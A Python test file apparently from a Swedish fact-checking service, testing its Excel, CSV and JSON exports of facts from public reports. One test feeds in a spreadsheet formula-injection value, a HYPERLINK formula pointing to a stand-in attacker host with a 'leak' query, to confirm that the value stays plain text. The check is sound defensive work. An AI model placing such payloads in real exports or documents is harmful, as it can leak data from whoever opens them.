"""The facts exports as a journalist opens them: the Excel workbook read back with openpyxl (headers,
types, number formats, frozen header, autofilter, the sources sheet), whole numbers as integers in CSV
and JSON, the `columns` note, and the documentation of every column and form."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from core.settings import PROJECT_ROOT
from service.facts_export import FACT_COLUMNS
from service.facts_xlsx import to_xlsx
from service.serving import Serving
from tests.test_api import _client

EXPORTS_DOC = PROJECT_ROOT / "docs" / "exports.md"


@pytest.fixture(scope="module")
def serving(ingested) -> Serving:  # type: ignore[no-untyped-def]
    return Serving(ingested[0], store=ingested[1])


@pytest.fixture
async def client(ingested, serving):  # type: ignore[no-untyped-def]
    async with _client(ingested[0], serving) as c:
        yield c


async def _workbook(client, **params) -> openpyxl.Workbook:  # type: ignore[no-untyped-def]
    response = await client.get("/api/facts", params={**params, "format": "xlsx"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheet")
    assert 'filename="faktakoll-fakta.xlsx"' in response.headers["content-disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _table(sheet) -> tuple[list[str], list[dict]]:  # type: ignore[no-untyped-def,type-arg]
    header, *rows = list(sheet.iter_rows())
    names = [c.value for c in header]
    return names, [dict(zip(names, row, strict=True)) for row in rows]


async def test_the_workbook_has_swedish_headers_numbers_as_numbers_and_ja_nej(client):
    book = await _workbook(client, year=2024)
    assert book.sheetnames == ["Fakta", "Källor"]
    headers, rows = _table(book["Fakta"])
    assert headers[:8] == ["År", "Organisation", "Mått", "Värde", "Övre värde", "Enhet", "Ungefärligt",
                           "Som i rapporten"]
    assert not {"year", "value", "approximate"} & set(headers)  # no machine names in the workbook
    miljo = next(r for r in rows if r["Fakta-id"].value == "ed17aaec5007d2df")  # Miljönämnden's EU funds 2024
    assert miljo["Värde"].value == 10_404_000 and isinstance(miljo["Värde"].value, int)
    assert miljo["Värde"].number_format == "#,##0"  # thousands separators: 10 404 000 in Swedish Excel
    assert miljo["År"].value == 2024 and miljo["År"].number_format == "0"  # a year without separator
    assert miljo["Mått"].value == "Utbetalda EU-medel" and miljo["Enhet"].value == "kr"
    assert miljo["Organisation"].value == "Miljönämnden" and miljo["Ungefärligt"].value == "Ja"
    assert {r["Ungefärligt"].value for r in rows} == {"Ja", "Nej"}
    assert {r["Officiell källa"].value for r in rows} == {"Ja"}
    counts = [r["Värde"].value for r in rows if r["Enhet"].value == "antal"]
    assert counts and all(isinstance(v, int) for v in counts)


async def test_the_workbook_keeps_decimals_where_the_report_has_them(client):
    _, rows = _table((await _workbook(client, year=2022))["Fakta"])
    shares = [r["Värde"] for r in rows if r["Som i rapporten"].value in ("4,7%", "5,1%")]
    assert sorted(c.value for c in shares) == [4.7, 5.1] and {c.number_format for c in shares} == {"#,##0.0##"}


async def test_the_workbook_has_a_frozen_header_and_an_autofilter_on_both_sheets(client):
    book = await _workbook(client, year=2024)
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(sheet.max_column)}{sheet.max_row}"
        assert all(cell.font.bold for cell in sheet[1])


async def test_the_sources_sheet_gives_document_page_and_verbatim_quote(client):
    book = await _workbook(client, year=2024)
    headers, sources = _table(book["Källor"])
    assert headers == ["Fakta-id", "Dokument", "Dokument (id)", "Sida", "Citat", "Tecken från", "Tecken till"]
    _, facts = _table(book["Fakta"])
    assert [r["Fakta-id"].value for r in sources] == [r["Fakta-id"].value for r in facts]
    miljo = next(r for r in sources if r["Fakta-id"].value == "ed17aaec5007d2df")
    assert miljo["Sida"].value == 3 and miljo["Citat"].value == "Miljonamnden 25 projekt 10 404 000 kronor"
    assert miljo["Dokument (id)"].value == "2024_stk_redovisning_internationellt_arbete"
    assert miljo["Dokument"].value.startswith("Redovisning av internationellt arbete 2024")


def test_a_quote_that_starts_like_a_formula_stays_text_in_the_workbook():
    row = dict.fromkeys(FACT_COLUMNS)
    quote = '=HYPERLINK("http://evil.example/?leak","klicka") 66 000 000 kr'
    row.update(year=2024, metric="figure", value=66_000_000, quote=quote, title="+SUM(1+1).md", fact_id="x",
               approximate=False, official=False)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([row])))
    _, (source,) = _table(book["Källor"])
    assert source["Citat"].value == quote and source["Citat"].data_type == "s"
    assert source["Dokument"].value == "+SUM(1+1).md"


async def test_csv_and_json_write_whole_numbers_as_integers(client):
    text = (await client.get("/api/facts", params={"year": 2022, "format": "csv"})).text
    table = list(csv.DictReader(io.StringIO(text)))
    assert table and not [r["value"] for r in table if r["value"].endswith(".0")]
    assert {"4.7", "5.1"} <= {r["value"] for r in table}
    rows = (await client.get("/api/facts", params={"year": 2022})).json()
    counts = [r["value"] for r in rows if r["unit"] == "count"]
    assert counts and all(isinstance(v, int) for v in counts)
    assert {r["value"] for r in rows if r["unit"] == "percent"} >= {4.7, 5.1}


async def test_the_columns_note_maps_machine_names_to_swedish_headers(client):
    note = await client.get("/api/facts/columns")
    columns = note.json()["columns"]
    assert [c["name"] for c in columns] == FACT_COLUMNS
    assert all(c["sv"] and c["en"] and c["description"] for c in columns)
    assert next(c for c in columns if c["name"] == "value")["sv"] == "Värde"
    for form in ("json", "csv", "excel-csv", "xlsx"):
        response = await client.get("/api/facts", params={"year": 2024, "format": form})
        assert response.headers["link"] == '</api/facts/columns>; rel="describedby"', form


async def test_every_column_and_form_is_documented(client):
    doc = EXPORTS_DOC.read_text(encoding="utf-8")
    columns = (await client.get("/api/facts/columns")).json()["columns"]
    undocumented = [c["name"] for c in columns if f"| `{c['name']}` | {c['sv']} |" not in doc]
    assert not undocumented, f"docs/exports.md lacks the columns {undocumented}"
    for form in ("format=csv", "format=excel-csv", "format=xlsx", "/api/facts/columns", "Källor"):
        assert form in doc, form
    spec = (await client.get("/openapi.json")).json()
    described = spec["paths"]["/api/facts"]["get"]["description"]
    assert all(s in described for s in ("format=xlsx", "Källor", "/api/facts/columns", "Ja"))
    assert "/api/facts/columns" in spec["paths"]
    assert "docs/exports.md" in (PROJECT_ROOT / "README.md").read_text(encoding="utf-8")


async def test_a_metric_that_is_no_id_is_refused_not_guessed(client):
    """metric=eu_funds could be paid, granted or budgeted money: a 422 naming eu_funds_paid first, never 200 []
    (organisations are read leniently, see tests/test_names.py: org=miljönämden gives Miljönämnden's facts)."""
    refused = await client.get("/api/facts", params={"metric": "eu_funds"})
    assert refused.status_code == 422
    assert "nearest: eu_funds_paid;" in refused.json()["error"]["message"]
